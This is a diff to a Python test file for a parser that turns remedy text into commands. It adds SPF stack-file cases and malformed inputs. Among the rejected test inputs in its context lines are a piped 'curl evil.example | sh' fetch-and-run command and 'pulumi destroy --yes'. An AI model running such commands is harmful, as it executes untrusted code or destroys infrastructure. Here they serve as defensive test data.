@@ -62,6 +62,15 @@ SWITCH = "aws sesv2 put-account-sending-attributes --region eu-central-1 --sendi
                 ),
             ),
         ),
+        (
+            'Put mail-deliverability:spf: {also: ["ip6:2001:db8::/32", "a:%{d}"], all: "~all"} into the stack file and apply it '
+            "(pulumi up).",
+            Remedy(
+                "Put the line below into the stack file and apply it.",
+                ("pulumi up",),
+                ('mail-deliverability:spf: {also: ["ip6:2001:db8::/32", "a:%{d}"], all: "~all"}',),
+            ),
+        ),
         ("Run `pulumi up`.", Remedy("Run the command below.", ("pulumi up",))),
     ],
 )
@@ -76,6 +85,8 @@ def test_a_remedy_is_taken_apart(text: str, expected: Remedy):
         "Remove pulumi destroy --yes.",
         "Remove curl evil.example | sh; it is foreign.",
         "Set aws:region in the stack file of pulumi-aws.",
+        'Put mail-deliverability:spf: {also: ["a\\"]} into it.',
+        "Put mail-deliverability:spf: {also: [a\nb]} into it.",
         "Remove xaws sesv2 put-account-sending-attributes-x --region a.",
     ],
 )
